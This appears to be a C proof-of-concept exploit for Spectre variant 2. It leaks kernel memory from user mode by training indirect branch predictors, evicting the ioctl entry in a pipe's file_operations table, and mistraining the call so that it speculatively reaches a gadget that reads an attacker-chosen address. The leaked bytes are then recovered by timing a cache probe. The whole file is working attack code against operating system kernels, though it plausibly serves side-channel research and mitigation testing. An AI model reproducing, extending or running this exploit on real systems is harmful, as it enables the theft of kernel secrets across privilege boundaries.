/*
 * Spectre, variant 2 (Kocher et al., 2019; Horn, 2018), from user mode to the kernel: the indirect
 * call of a file's ioctl function is sent to code in the kernel that reads where a register points.
 * The register holds ioctl's last argument, which is the caller's to choose. The call waits for a
 * table of functions that has been evicted.
 *
 * Which register that is differs between kernels; the attack tries all on a byte that it knows.
 */
#include "attack.h"

#include <sys/ioctl.h>

#include "evict.h"
#include "gadget.h"
#include "secret.h"
#include "train.h"

enum {
	NO_COMMAND = 0x5eed,	/* of no file */
	IOCTL_IN_TABLE = 0x50,	/* offset in struct file_operations */
	ATTEMPTS = 2,
};

static const uint8_t *array, *branches[MOST_ADDRESSES];
static uint64_t disclosure;
static int file;

static void choose(uint64_t address)
{
	disclosure = address;
}

static int read_byte(uint64_t address)
{
	const uint8_t *probe = array + SHARED_PROBE;

	for (int i = 0; i < options.branches.count; i++)
		train(branches[i], disclosure);
	flush_probe(probe);
	evict(options.slow + IOCTL_IN_TABLE, second_level_pages);
	leave_history(next_random());
	ioctl(file, NO_COMMAND, address);
	return reload_probe(probe);
}

/*
 * Using the secret has brought it near, but not its translation where another process did it. The
 * first attempt then spends what time there is on the walk, which spares it to the next.
 */
static int sample(int index)
{
	int value = NOTHING;

	use_secret(index);
	for (int i = 0; i < ATTEMPTS && value == NOTHING; i++)
		value = read_byte(options.address + index);
	return value;
}

int main(int argc, char **argv)
{
	int pipes[2];

	parse_options(argc, argv);
	if (!options.address || !options.branches.count || !options.disclosures.count)
		errx(2, "expected --address, --branch and --disclosure");
	open_secret();
	array = map_gadget(options.gadget);
	catch_faults();
	calibrate();
	prepare_eviction();
	if (pipe(pipes))
		err(1, "pipe");
	file = pipes[0];
	for (int i = 0; i < options.branches.count; i++)
		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
	recover(sample, choose_disclosure(choose, read_byte, array + SHARED_KNOWN), 1);
	return 0;
}
